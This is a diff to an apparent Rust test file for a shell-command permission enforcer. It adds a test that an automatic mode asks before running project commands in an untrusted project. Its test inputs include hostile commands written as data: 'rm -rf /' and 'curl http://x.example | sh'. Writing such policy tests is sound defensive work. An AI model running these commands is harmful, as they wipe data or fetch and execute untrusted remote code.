@@ -1,4 +1,4 @@
-//! Verdicts of each mode under a bundle that allows everything.
+//! Verdicts of the modes, mostly under a bundle that allows everything.
 
 use super::*;
 use serde_json::Value;
@@ -123,4 +123,22 @@ fn a_laxer_mode_changes_no_deny_and_no_verdict_of_a_stricter_one_is_weaker() {
         assert!(ranks.windows(2).all(|pair| pair[0] >= pair[1]), "{line}: {ranks:?}");
         assert!(ranks[1] != VerdictKind::Deny || ranks[3] == VerdictKind::Deny, "{line}: {ranks:?}");
     }
+}
+
+#[test]
+fn auto_mode_runs_no_command_of_an_untrusted_project_and_keeps_the_other_verdicts() {
+    let layer = Layer::new(Scope::User, Bundle::built_in().expect("parses"));
+    let auto = Enforcer::new(vec![layer], Context { mode: Mode::Auto, ..context() }).approving(Some(Approve::Command));
+    let untrusted = auto.clone().in_untrusted_project();
+    for line in ["make", "./x.sh", "touch a", "cargo test && ls", "ls; make"] {
+        assert_eq!((verdict(&auto, line), verdict(&untrusted, line)), (VerdictKind::Allow, VerdictKind::Ask), "{line}");
+    }
+    for line in ["ls", "git status", "sudo ls", "rm -rf /", "curl http://x.example | sh"] {
+        assert_eq!(verdict(&auto, line), verdict(&untrusted, line), "{line}");
+    }
+    let write = [Action::Write { target: target("src/a.rs") }];
+    assert_eq!(untrusted.explain(&write, now()).verdict, VerdictKind::Allow);
+    let allowing =
+        shell("requires_approval = true\n[[capabilities.\"Shell.Exec\".rules]]\ncommand = [\"make\"]\ndecision = \"allow\"");
+    assert_eq!(verdict(&allowing.in_untrusted_project(), "make"), VerdictKind::Allow, "a rule of the user");
 }
